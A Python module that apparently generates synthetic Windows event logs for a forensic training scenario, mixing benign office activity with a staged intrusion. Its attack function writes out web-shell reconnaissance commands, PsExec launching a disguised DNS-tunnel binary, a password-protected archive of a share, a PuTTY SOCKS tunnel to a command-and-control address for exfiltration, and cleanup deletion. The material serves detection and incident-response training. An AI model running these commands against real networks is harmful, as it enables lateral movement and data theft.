"""Windows event logs of the servers and the admin workstation (Winlogbeat ECS NDJSON).

WEB01 and ADM01 run Sysmon (process creation as Sysmon 1); FS01 audits process creation with
command lines (Security 4688) and file shares (5140, 5145); DC01 audits logons and Kerberos.
Background: every person's morning logon and tickets on the domain controller, their sessions
on the Projects share, the backup server's nightly ``C$`` mapping, the administrator's routine
checks (ipconfig, ping, nslookup, net user, nltest) and Remote Desktop maintenance from ADM01,
IIS worker starts and recycles, agents' heartbeats, a service update, now and then a mistyped
password. The attack: the web shell's commands under ``w3wp.exe``, a Remote Desktop logon from
the actor's VPN exit, ``net use`` of ``C$``/``ADMIN$``, PsExec, the password-protected archive
and the PuTTY session (see :mod:`seawall.demo.scenario`).
"""

from __future__ import annotations

import random
from datetime import datetime, timedelta
from pathlib import Path

from seawall.demo.evidence import EvidenceFile, Manifest
from seawall.demo.files import PuttyBuild
from seawall.demo.logons import (
    Logon,
    failed_logon,
    kerberos_service,
    kerberos_tgt,
    logoff,
    logon,
    rdp_authenticated,
    rdp_session,
    service_installed,
    share_access,
)
from seawall.demo.processes import Proc, Processes
from seawall.demo.scenario import APP_POOL, DAYS, DOMAIN, DOMAIN_SID, Account, Scenario, at
from seawall.demo.winlog import EventLog

SYSTEM = "NT AUTHORITY\\SYSTEM"
POOL_USER = f"IIS APPPOOL\\{APP_POOL}"
W3WP = "C:\\Windows\\System32\\inetsrv\\w3wp.exe"
SVCHOST = "C:\\Windows\\System32\\svchost.exe"
SERVICES = "C:\\Windows\\System32\\services.exe"
CMD = "C:\\Windows\\System32\\cmd.exe"
EXPLORER = "C:\\Windows\\explorer.exe"
USERINIT = "C:\\Windows\\System32\\userinit.exe"
AGENT = "C:\\Program Files\\Keelson Backup\\bkagent.exe"
WEBSHELL_DIR = "C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\"
VPN_POOL = "10.30.0."
COMPUTER_RID = {"WEB01": 1104, "FS01": 1105, "DC01": 1000, "ADM01": 1110, "BKP01": 1106}


def workday(day: int) -> bool:
    return day % 7 < 5


def _computer_sid(name: str) -> str:
    return f"{DOMAIN_SID}-{COMPUTER_RID[name]}"


class _Host:
    """One host's log, its processes and its logon ids."""

    def __init__(self, scenario: Scenario, name: str, putty: PuttyBuild, sysmon: bool) -> None:
        self.scenario = scenario
        self.log = EventLog(scenario.hosts[name], scenario.seed)
        self.procs = Processes(self.log, putty, sysmon=sysmon)
        self.next_logon = 0x3A000 + COMPUTER_RID[name] * 0x100

    def logon_id(self) -> int:
        self.next_logon += 0x1F3
        return self.next_logon

    def heartbeats(self, rng: random.Random, per_day: int) -> None:
        """Agents and Windows' own background processes, all day long."""
        services = self.procs.start(at(0, 0, 0, 30), SERVICES, SERVICES, user=SYSTEM, parent=None,
                                    integrity="System")  # fmt: skip
        agent = self.procs.start(at(0, 0, 1, 2), AGENT, f'"{AGENT}" --service', user=SYSTEM,
                                 parent=services, integrity="System")  # fmt: skip
        for day in range(DAYS):
            for index in range(per_day):
                time = at(day, seconds=(index + rng.random()) * 86_400 / per_day)
                kind = rng.random()
                if kind < 0.5:
                    self.procs.start(time, AGENT, f'"{AGENT}" --heartbeat --quiet', user=SYSTEM,
                                     parent=agent, integrity="System")  # fmt: skip
                elif kind < 0.8:
                    self.procs.start(time, "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
                                     "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
                                     user="NT AUTHORITY\\NETWORK SERVICE", parent=None,
                                     integrity="System")  # fmt: skip
                else:
                    self.procs.start(time, "C:\\Windows\\System32\\taskhostw.exe",
                                     "taskhostw.exe Install $(Arg0)", user=SYSTEM, parent=None,
                                     integrity="System")  # fmt: skip

    def service_update(self, rng: random.Random) -> None:
        service_installed(self.log, at(6, 18, rng.randint(5, 40)), "KeelsonAgent",
                          f'"{AGENT}" --service', None, start_type="auto start")  # fmt: skip


def _person_logon(host: _Host, time: datetime, who: Account, ip: str, workstation: str,
                  hours: float, share: bool) -> None:  # fmt: skip
    """A person's network session on a server: logon, the Projects share, logoff."""
    ident = host.logon_id()
    logon(host.log, time, Logon(who, 3, ip, workstation), ident)
    if share:
        rng = random.Random(f"{host.scenario.seed}:share:{ident}")
        me = (who.sid, who.name, DOMAIN)
        share_access(host.log, time + timedelta(seconds=1), me, ident, ip, "Projects",
                     "\\??\\C:\\Shares\\Projects")  # fmt: skip
        for _ in range(rng.randint(1, 4)):
            project = rng.choice(("Hull-Design", "Ferry-Refit", "Tug-Series-7", "Barge-2024"))
            share_access(host.log, time + timedelta(seconds=rng.randint(2, 3000)), me, ident, ip,
                         "Projects", "\\??\\C:\\Shares\\Projects",
                         target=f"{project}\\Drawings")  # fmt: skip
    logoff(host.log, time + timedelta(hours=hours), who, ident, 3)


def _people(scenario: Scenario, dc: _Host, fs: _Host, rng: random.Random) -> None:
    """Everyone's working days: tickets and logons at the DC, sessions on the file server."""
    for index, person in enumerate(scenario.users):
        station, ip = scenario.workstation_of(person)
        for day in range(DAYS):
            if not workday(day) and rng.random() > 0.05:
                continue
            remote = rng.random() < 0.1
            source = f"{VPN_POOL}{10 + index % 200}" if remote else ip
            start = at(day, 0, rng.randint(0, 90), rng.uniform(0, 59))
            if rng.random() < 0.06:  # a mistyped password first
                failed_logon(dc.log, start - timedelta(seconds=rng.randint(5, 40)), person,
                             source, station, 50_000 + index)  # fmt: skip
            kerberos_tgt(dc.log, start, person, source)
            kerberos_service(dc.log, start + timedelta(seconds=1), person, source, f"{station}$")
            ident = dc.logon_id()
            logon(dc.log, start + timedelta(seconds=2), Logon(person, 3, source, station), ident)
            logoff(dc.log, start + timedelta(seconds=3), person, ident, 3)
            for _ in range(rng.randint(1, 3)):
                when = start + timedelta(minutes=rng.randint(2, 480))
                kerberos_service(dc.log, when - timedelta(seconds=1), person, source, "FS01$")
                _person_logon(fs, when, person, source, station, rng.uniform(0.2, 3), True)


def _backups(scenario: Scenario, fs: _Host) -> None:
    """BKP01's computer account maps C$ on the file server every night (allowlisted)."""
    bkp_ip = scenario.hosts["BKP01"].ip
    who = (_computer_sid("BKP01"), "BKP01$", DOMAIN)
    for day in range(DAYS):
        time = at(day, 18, 0, 4)
        ident = fs.logon_id()
        logon(fs.log, time, Logon(None, 3, bkp_ip, "BKP01", computer_account="BKP01$"), ident,
              computer_sid=who[0])  # fmt: skip
        share_access(fs.log, time + timedelta(seconds=1), who, ident, bkp_ip, "C$", "\\??\\C:\\")
        share_access(fs.log, time + timedelta(seconds=2), who, ident, bkp_ip, "C$", "\\??\\C:\\",
                     target="Shares\\Projects")  # fmt: skip


def _admin_checks(scenario: Scenario, adm: _Host, fs: _Host, web: _Host,
                  rng: random.Random) -> None:  # fmt: skip
    """The administrator's working days on ADM01: discovery commands (routine for them),
    weekly C$ checks on the file server and Remote Desktop maintenance of the web server."""
    admin = scenario.accounts["adm-kpatel"]
    adm_ip = scenario.hosts["ADM01"].ip
    qualified = admin.qualified
    for day in range(DAYS):
        if not workday(day):
            continue
        start = at(day - 1, 23, 50, rng.uniform(0, 50))
        ident = adm.logon_id()
        logon(adm.log, start, Logon(admin, 2, "127.0.0.1", "ADM01", "Negotiate"), ident)
        lid = hex(ident)
        init = adm.procs.start(start + timedelta(seconds=5), USERINIT, USERINIT, user=qualified,
                               parent=None, logon_id=lid, session=1)  # fmt: skip
        shell = adm.procs.start(start + timedelta(seconds=6), EXPLORER, EXPLORER, user=qualified,
                                parent=init, logon_id=lid, session=1, integrity="Medium")  # fmt: skip
        checks = start + timedelta(minutes=25)
        cmd = adm.procs.start(checks, CMD, '"C:\\Windows\\system32\\cmd.exe"', user=qualified,
                              parent=shell, logon_id=lid, session=1,
                              cwd="C:\\Users\\adm-kpatel\\")  # fmt: skip
        commands = [
            ("C:\\Windows\\System32\\ipconfig.exe", "ipconfig /all"),
            ("C:\\Windows\\System32\\PING.EXE", "ping -n 1 fs01"),
            ("C:\\Windows\\System32\\PING.EXE", "ping -n 1 web01"),
            ("C:\\Windows\\System32\\nslookup.exe", "nslookup web01.tidewater.example"),
            ("C:\\Windows\\System32\\nltest.exe", "nltest /dsgetdc:tidewater"),
            ("C:\\Windows\\System32\\whoami.exe", "whoami /groups"),
        ]
        for _ in range(rng.randint(1, 3)):
            person = rng.choice(scenario.users)
            commands.append(("C:\\Windows\\System32\\net.exe", f"net user {person.name} /domain"))
        when = checks
        for image, line in commands:
            when += timedelta(seconds=rng.randint(8, 70))
            adm.procs.start(when, image, line, user=qualified, parent=cmd, logon_id=lid,
                            session=1, cwd="C:\\Users\\adm-kpatel\\")  # fmt: skip
        if day in (1, 8):  # weekly look at the file server's disk
            when += timedelta(minutes=4)
            adm.procs.start(when, "C:\\Windows\\System32\\net.exe", "net use \\\\fs01\\C$",
                            user=qualified, parent=cmd, logon_id=lid, session=1)  # fmt: skip
            fs_id = fs.logon_id()
            logon(fs.log, when + timedelta(seconds=1), Logon(admin, 3, adm_ip, "ADM01"), fs_id)
            me = (admin.sid, admin.name, DOMAIN)
            share_access(fs.log, when + timedelta(seconds=1), me, fs_id, adm_ip, "C$", "\\??\\C:\\")
            logoff(fs.log, when + timedelta(minutes=9), admin, fs_id, 3)
        if day in (2, 9):  # Remote Desktop maintenance of the web server
            _admin_rdp(web, adm, admin, when + timedelta(minutes=30), cmd, lid)


def _admin_rdp(web: _Host, adm: _Host, admin: Account, time: datetime, cmd: Proc,
               lid: str) -> None:  # fmt: skip
    adm.procs.start(time, "C:\\Windows\\System32\\mstsc.exe", "mstsc.exe /v:web01",
                    user=admin.qualified, parent=cmd, logon_id=lid, session=1,
                    integrity="Medium")  # fmt: skip
    adm_ip = adm.log.host.ip
    rdp_authenticated(web.log, time + timedelta(seconds=4), admin, adm_ip)
    ident = web.logon_id()
    logon(web.log, time + timedelta(seconds=5), Logon(admin, 10, adm_ip, "ADM01", "Negotiate"),
          ident)  # fmt: skip
    rdp_session(web.log, time + timedelta(seconds=7), admin, adm_ip, 2)
    wid = hex(ident)
    init = web.procs.start(time + timedelta(seconds=8), USERINIT, USERINIT, user=admin.qualified,
                           parent=None, logon_id=wid, session=2)  # fmt: skip
    shell = web.procs.start(time + timedelta(seconds=9), EXPLORER, EXPLORER,
                            user=admin.qualified, parent=init, logon_id=wid, session=2)  # fmt: skip
    web.procs.start(time + timedelta(minutes=2), "C:\\Windows\\System32\\mmc.exe",
                    '"C:\\Windows\\system32\\mmc.exe" "C:\\Windows\\system32\\inetsrv\\iis.msc"',
                    user=admin.qualified, parent=shell, logon_id=wid, session=2)  # fmt: skip
    web.procs.start(time + timedelta(minutes=6), "C:\\Windows\\System32\\inetsrv\\appcmd.exe",
                    "appcmd list apppool", user=admin.qualified, parent=shell, logon_id=wid,
                    session=2)  # fmt: skip
    logoff(web.log, time + timedelta(minutes=21), admin, ident, 10)


def _iis_workers(web: _Host) -> list[tuple[datetime, Proc]]:
    """IIS starts its worker at boot and recycles it every 29 hours (the default); ASP.NET
    compiles the site on the first start."""
    was = web.procs.start(at(0, 0, 0, 40), SVCHOST, "C:\\Windows\\system32\\svchost.exe -k iissvcs",
                          user=SYSTEM, parent=None, integrity="System")  # fmt: skip
    workers: list[tuple[datetime, Proc]] = []
    start = web.scenario.times["iis_start"]
    line = (
        f'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "{APP_POOL}" -v "v4.0" -l'
        ' "webengine4.dll" -a \\\\.\\pipe\\iisipm8d5c6f1e-2c51-4bf8-a8ad-0f25b0ef4ab3 -h'
        f' "C:\\inetpub\\temp\\apppools\\{APP_POOL}\\{APP_POOL}.config" -w "" -m 0'
    )
    while start < at(DAYS):
        worker = web.procs.start(start, W3WP, line, user=POOL_USER, parent=was,
                                 cwd="C:\\Windows\\system32\\inetsrv\\")  # fmt: skip
        workers.append((start, worker))
        if len(workers) == 1:
            csc = "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe"
            compiled = web.procs.start(
                start + timedelta(seconds=14), csc,
                f'"{csc}" /noconfig /fullpaths @"C:\\Windows\\Microsoft.NET\\Framework64\\'
                'v4.0.30319\\Temporary ASP.NET Files\\root\\6f3a1c2e\\b6d1f0a4\\xk4lmzqv.cmdline"',
                user=POOL_USER, parent=worker)  # fmt: skip
            cvtres = "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\cvtres.exe"
            web.procs.start(start + timedelta(seconds=15), cvtres,
                            f'"{cvtres}" /NOLOGO /READONLY /MACHINE:IX86 "/OUT:C:\\Windows\\'
                            'TEMP\\RES6A1F.tmp"', user=POOL_USER, parent=compiled)  # fmt: skip
        start += timedelta(hours=29)
    return workers


RECON = (
    ("C:\\Windows\\System32\\whoami.exe", "whoami"),
    ("C:\\Windows\\System32\\ipconfig.exe", "ipconfig /all"),
    ("C:\\Windows\\System32\\net.exe", "net user /domain"),
    ("C:\\Windows\\System32\\net.exe", 'net group "domain admins" /domain'),
    ("C:\\Windows\\System32\\nltest.exe", "nltest /dclist:tidewater"),
    ("C:\\Windows\\System32\\net.exe", "net view \\\\fs01"),
    ("C:\\Windows\\System32\\tasklist.exe", "tasklist /v"),
    ("C:\\Windows\\System32\\NETSTAT.EXE", "netstat -ano"),
    ("C:\\Windows\\System32\\systeminfo.exe", "systeminfo"),
)


def _webshell_recon(web: _Host, worker: Proc, rng: random.Random) -> None:
    """China Chopper runs each command as ``cmd /c cd /d "<dir>"&<command>&echo [S]&cd&echo
    [E]`` from the IIS worker."""
    when = web.scenario.times["recon_start"]
    item = "webshell-recon"
    for image, command in RECON:
        line = f'cmd /c cd /d "{WEBSHELL_DIR}"&{command}&echo [S]&cd&echo [E]'
        shell = web.procs.start(when, CMD, line, user=POOL_USER, parent=worker, cwd=WEBSHELL_DIR,
                                item=item)  # fmt: skip
        child = web.procs.start(when + timedelta(milliseconds=90), image, command,
                                user=POOL_USER, parent=shell, cwd=WEBSHELL_DIR,
                                item=item)  # fmt: skip
        if image.endswith("net.exe") and "/domain" in command:
            web.procs.start(when + timedelta(milliseconds=130), "C:\\Windows\\System32\\net1.exe",
                            command.replace("net ", "C:\\Windows\\system32\\net1 ", 1),
                            user=POOL_USER, parent=child, cwd=WEBSHELL_DIR)  # fmt: skip
        when += timedelta(seconds=rng.randint(35, 150))


def _attack_web01(scenario: Scenario, web: _Host, fs: _Host, dc: _Host,
                  workers: list[tuple[datetime, Proc]], rng: random.Random) -> None:  # fmt: skip
    times = scenario.times
    worker = [proc for start, proc in workers if start <= times["recon_start"]][-1]
    _webshell_recon(web, worker, rng)
    victim = scenario.accounts["d.tan"]
    exit_ip = scenario.infra.actor_vpn_exit
    qualified = victim.qualified
    # Remote Desktop from the actor's VPN exit: NLA's network logon, then the session.
    t = times["rdp_logon"]
    item = "rdp-from-vpn-exit"
    nla = web.logon_id()
    logon(web.log, t - timedelta(seconds=3), Logon(victim, 3, exit_ip, "DESKTOP-7H2K9QF", "NTLM"),
          nla, item=item)  # fmt: skip
    logoff(web.log, t - timedelta(seconds=2), victim, nla, 3)
    rdp_authenticated(web.log, t - timedelta(seconds=1), victim, exit_ip, item=item)
    session = web.logon_id()
    logon(web.log, t, Logon(victim, 10, exit_ip, "WEB01", "Negotiate"), session, item=item)
    rdp_session(web.log, t + timedelta(seconds=2), victim, exit_ip, 3, item=item)
    kerberos_tgt(dc.log, t + timedelta(seconds=1), victim, web.log.host.ip)
    lid = hex(session)
    profile = f"C:\\Users\\{victim.name}\\"
    init = web.procs.start(t + timedelta(seconds=4), USERINIT, USERINIT, user=qualified,
                           parent=None, logon_id=lid, session=3)  # fmt: skip
    shell = web.procs.start(t + timedelta(seconds=6), EXPLORER, EXPLORER, user=qualified,
                            parent=init, logon_id=lid, session=3, integrity="Medium")  # fmt: skip
    cmd = web.procs.start(t + timedelta(minutes=11), CMD, '"C:\\Windows\\system32\\cmd.exe"',
                          user=qualified, parent=shell, logon_id=lid, session=3,
                          cwd=profile)  # fmt: skip
    # Admin shares on the file server, from the client's side and the server's.
    t = times["share_mapping"]
    for offset, share in ((0, "C$"), (25, "ADMIN$")):
        web.procs.start(t + timedelta(seconds=offset), "C:\\Windows\\System32\\net.exe",
                        f"net use \\\\fs01\\{share}", user=qualified, parent=cmd, logon_id=lid,
                        session=3, cwd=profile, item="admin-share-client")  # fmt: skip
    web_ip = web.log.host.ip
    kerberos_service(dc.log, t - timedelta(seconds=1), victim, web_ip, "FS01$")
    remote = fs.logon_id()
    logon(fs.log, t + timedelta(seconds=1), Logon(victim, 3, web_ip, "WEB01"), remote,
          item="admin-share-server")  # fmt: skip
    me = (victim.sid, victim.name, DOMAIN)
    item = "admin-share-server"
    share_access(fs.log, t + timedelta(seconds=1), me, remote, web_ip, "C$", "\\??\\C:\\",
                 item=item)  # fmt: skip
    share_access(fs.log, t + timedelta(seconds=26), me, remote, web_ip, "ADMIN$",
                 "\\??\\C:\\Windows", item=item)  # fmt: skip
    share_access(fs.log, t + timedelta(seconds=70), me, remote, web_ip, "ADMIN$",
                 "\\??\\C:\\Windows", target="Temp\\wuauhelp.exe", item=item)  # fmt: skip
    # PsExec: its service binary through ADMIN$, the service, the tunnelling client.
    t = times["psexec"]
    psexec = web.procs.start(
        t, "C:\\Users\\Public\\PsExec64.exe",
        "C:\\Users\\Public\\PsExec64.exe \\\\fs01 -accepteula -s -d C:\\Windows\\Temp\\wuauhelp.exe"
        " --dns domain=t.tidevvater.example,secret=6b1d9f0a",
        user=qualified, parent=cmd, logon_id=lid, session=3, cwd=profile)  # fmt: skip
    del psexec
    share_access(fs.log, t + timedelta(seconds=1), me, remote, web_ip, "ADMIN$",
                 "\\??\\C:\\Windows", target="PSEXESVC.exe", item=item)  # fmt: skip
    share_access(fs.log, t + timedelta(seconds=2), me, remote, web_ip, "IPC$", "",
                 target="svcctl")  # fmt: skip
    service_installed(fs.log, t + timedelta(seconds=2), "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe",
                      victim, item="psexec-service")  # fmt: skip
    services = fs.procs.start(at(0, 0, 0, 30), SERVICES, SERVICES, user="TIDEWATER\\FS01$",
                              parent=None, integrity="System")  # fmt: skip
    svc = fs.procs.start(t + timedelta(seconds=3), "C:\\Windows\\PSEXESVC.exe",
                         "C:\\Windows\\PSEXESVC.exe", user="TIDEWATER\\FS01$", parent=services,
                         integrity="System", item="psexec-service")  # fmt: skip
    fs.procs.start(t + timedelta(seconds=4), "C:\\Windows\\Temp\\wuauhelp.exe",
                   "C:\\Windows\\Temp\\wuauhelp.exe --dns domain=t.tidevvater.example,"
                   "secret=6b1d9f0a", user="TIDEWATER\\FS01$", parent=svc,
                   integrity="System", item="dns-tunnel")  # fmt: skip
    # The archive of the design share, with a header password, by the renamed rar.exe.
    t = times["archive"]
    share_access(fs.log, t + timedelta(seconds=1), me, remote, web_ip, "C$", "\\??\\C:\\",
                 target="Shares\\Projects\\Hull-Design", item=item)  # fmt: skip
    web.procs.start(
        t, "C:\\ProgramData\\Microsoft\\Windows\\Caches\\msadcs.exe",
        "C:\\ProgramData\\Microsoft\\Windows\\Caches\\msadcs.exe a -r -v2g -hpW1nterSea!24 -m5"
        " C:\\ProgramData\\Microsoft\\Windows\\Caches\\cab_8812.rar"
        " \\\\fs01\\c$\\Shares\\Projects\\Hull-Design",
        user=qualified, parent=cmd, logon_id=lid, session=3, cwd=profile,
        item="archive-password")  # fmt: skip
    logoff(fs.log, t + timedelta(hours=2, minutes=14), victim, remote, 3)
    logoff(web.log, t + timedelta(hours=2, minutes=30), victim, session, 10)
    # Next day: the PuTTY tunnel carries the archives out; then they are deleted.
    t = times["exfil_start"] - timedelta(minutes=3)
    rdp_authenticated(web.log, t - timedelta(seconds=1), victim, exit_ip, item="rdp-from-vpn-exit")
    again = web.logon_id()
    logon(web.log, t, Logon(victim, 10, exit_ip, "WEB01", "Negotiate"), again,
          item="rdp-from-vpn-exit")  # fmt: skip
    rdp_session(web.log, t + timedelta(seconds=2), victim, exit_ip, 3)
    lid = hex(again)
    shell = web.procs.start(t + timedelta(seconds=6), EXPLORER, EXPLORER, user=qualified,
                            parent=None, logon_id=lid, session=3, integrity="Medium")  # fmt: skip
    infra = scenario.infra
    web.procs.start(
        times["exfil_start"], "C:\\Users\\Public\\putty.exe",
        f"C:\\Users\\Public\\putty.exe -ssh -P 443 -l sup -pw ******** -N -D 1080 {infra.c2_ip}",
        user=qualified, parent=shell, logon_id=lid, session=3, cwd="C:\\Users\\Public\\",
        integrity="Medium", item="putty-public")  # fmt: skip
    cleanup = web.procs.start(
        times["cleanup"], CMD,
        "cmd.exe /c del /q C:\\ProgramData\\Microsoft\\Windows\\Caches\\cab_8812.part*.rar",
        user=qualified, parent=shell, logon_id=lid, session=3, cwd=profile)  # fmt: skip
    del cleanup
    logoff(web.log, times["cleanup"] + timedelta(minutes=4), victim, again, 10)


def write_events(scenario: Scenario, evidence: Path, manifest: Manifest, putty: PuttyBuild) -> None:
    """Write ``evidence/events/HOST.winlogbeat.ndjson`` for DC01, FS01, WEB01 and ADM01."""
    rng = scenario.rng("events")
    web = _Host(scenario, "WEB01", putty, sysmon=True)
    fs = _Host(scenario, "FS01", putty, sysmon=False)
    dc = _Host(scenario, "DC01", putty, sysmon=False)
    adm = _Host(scenario, "ADM01", putty, sysmon=True)
    per_day = 24 * scenario.scale
    for host in (web, fs, adm):
        host.heartbeats(scenario.rng(f"events:heartbeat:{host.log.host.name}"), per_day)
        host.service_update(rng)
    workers = _iis_workers(web)
    _people(scenario, dc, fs, scenario.rng("events:people"))
    _backups(scenario, fs)
    _admin_checks(scenario, adm, fs, web, scenario.rng("events:admin"))
    _attack_web01(scenario, web, fs, dc, workers, scenario.rng("events:attack"))
    folder = evidence / "events"
    firsts = {"WEB01": 1_204_553, "FS01": 3_908_211, "DC01": 18_330_406, "ADM01": 402_118}
    total = 0
    for host in (dc, fs, web, adm):
        name = host.log.host.name
        total += host.log.write(folder / f"{name}.winlogbeat.ndjson", manifest, firsts[name])
    relative = manifest.relative(folder)
    manifest.add(
        EvidenceFile(
            path=relative,
            plane="events",
            format="winlogbeat",
            command=["collect", "events", relative],
            needs="collect events",
            records=total,
            description="Windows events of DC01, FS01, WEB01 and ADM01 as their Winlogbeat"
            " agents shipped them (one NDJSON file per host)",
        )
    )
